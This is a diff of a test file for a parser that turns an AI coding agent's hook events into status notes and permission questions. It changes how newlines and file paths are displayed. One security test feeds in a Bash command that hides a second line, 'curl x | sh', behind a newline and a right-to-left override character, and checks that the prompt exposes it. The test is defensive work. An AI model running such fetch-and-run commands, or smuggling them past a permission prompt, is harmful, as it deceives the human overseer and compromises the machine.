@@ -67,7 +67,7 @@ test.each([
   [
     'an edited notebook is told by its path',
     { hook_event_name: 'PostToolUse', tool_name: 'NotebookEdit', tool_input: { notebook_path: '/w/n.ipynb' } },
-    { kind: 'touched', path: '/w/n.ipynb', note: 'NotebookEdit' },
+    { kind: 'touched', path: '/w/n.ipynb', note: 'NotebookEdit: /w/n.ipynb' },
   ],
   [
     'a file that was only read is not touched',
@@ -114,7 +114,7 @@ test.each([
       tool_name: 'AskUserQuestion',
       tool_input: { questions: [{ question: 'Which\ncolour?' }] },
     },
-    { kind: 'waiting', question: 'Which colour?' },
+    { kind: 'waiting', question: 'Which ⏎ colour?' },
   ],
   [
     'a question waits when its dialog is there, and not before',
@@ -128,7 +128,7 @@ test.each([
   [
     'a plan waits for its approval',
     { hook_event_name: 'PermissionRequest', tool_name: 'ExitPlanMode', tool_input: { plan: '# Do\n1. this' } },
-    { kind: 'waiting', question: 'Shall it carry out its plan? # Do 1. this' },
+    { kind: 'waiting', question: 'Shall it carry out its plan? # Do ⏎ 1. this' },
   ],
   [
     'that it shows no plan is said',
@@ -283,9 +283,15 @@ test('several questions are asked with their choices', () => {
 
 test('[SEC-10] what a tool is used on is its own field, whatever else its input holds', () => {
   const on = (tool_name: string, tool_input: object) =>
-    readHookMessage({ hook_event_name: 'PermissionRequest', tool_name, tool_input });
+    read({ hook_event_name: 'PermissionRequest', tool_name, tool_input });
   const asks = (subject: string) => expect.objectContaining({ asks: expect.objectContaining({ subject }) });
   expect(on('Write', { command: 'src/a', path: 'src/a', file_path: '/etc/b' })).toEqual(asks('/etc/b'));
+  expect(on('Write', { command: 'src/a', file_path: '/etc/b' })).toMatchObject({
+    question: 'May it use Write: /etc/b?',
+  });
+  expect(on('Bash', { command: "npm test # it's\ncurl x | sh\n#\u202e '" })).toMatchObject({
+    question: "May it use Bash: npm test # it's ⏎ curl x | sh ⏎ #\\u202e '?",
+  });
   expect(on('WebFetch', { path: 'src/a', url: 'https://x' })).toEqual(asks('https://x'));
   expect(on('Glob', { path: 'src', pattern: '../../*' })).toEqual(asks('../../*'));
   expect(on('Glob', { path: 'src', pattern: '**/*.ts' })).toEqual(asks('src'));
